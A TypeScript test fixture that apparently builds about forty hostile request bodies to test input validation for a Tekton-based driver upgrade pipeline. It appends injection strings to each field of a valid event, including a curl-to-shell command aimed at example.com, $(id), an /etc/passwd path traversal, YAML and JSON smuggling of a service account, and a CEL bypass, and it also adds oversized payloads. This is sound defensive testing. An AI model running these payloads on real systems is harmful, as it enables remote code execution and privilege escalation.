import { kernelA } from '../../harness/driver-image';
import { first } from '../../harness/upgrade-row';

/** A sound event; each of those below differs from it in one field. */
export const sound = { target: first, release: '4.20.3', kernel: kernelA, attempt: 1 };

const fields = Object.keys(sound) as (keyof typeof sound)[];

/** What somebody might hope that a shell, a path, YAML, JSON, Tekton or CEL makes something of. */
const injections: readonly [string, string][] = [
  ['a command', '; curl http://example.com | sh'],
  ['a command substitution', '$(id)'],
  ['a path', '../../../etc/passwd'],
  ['a variable of Tekton', '$(params.image)'],
  ['JSON', '"},{"name":"image","value":"x'],
  ['a second line of YAML', '\nserviceAccountName: nvidia-driver-apply'],
  ['CEL', "' || true || '"],
];

const wrongTypes: readonly [string, unknown][] = [
  ['a list', [1]],
  ['an object', { name: 'x' }],
];

/** Forty bodies, by what is hostile in them: a sound event with something appended to a field, another type in it, or too much of it. */
export const hostile: readonly [string, string][] = [
  ...fields.flatMap(field => injections.map(([what, text]) => body(`${what} in ${field}`, { [field]: `${sound[field]}${text}` }))),
  ...fields.flatMap(field => wrongTypes.map(([what, value]) => body(`${what} as ${field}`, { [field]: value }))),
  body('a release of a million characters', { release: `4.20.3-${'a'.repeat(1_000_000)}` }),
  body('a kernel of a million characters', { kernel: `${'5'.repeat(1_000_000)}.x86_64` }),
  body('ten megabytes beside it', { padding: 'x'.repeat(10_000_000) }),
  ['lists in lists, a hundred thousand', '['.repeat(100_000) + ']'.repeat(100_000)],
];

function body(what: string, changes: object): [string, string] {
  return [what, JSON.stringify({ ...sound, ...changes })];
}
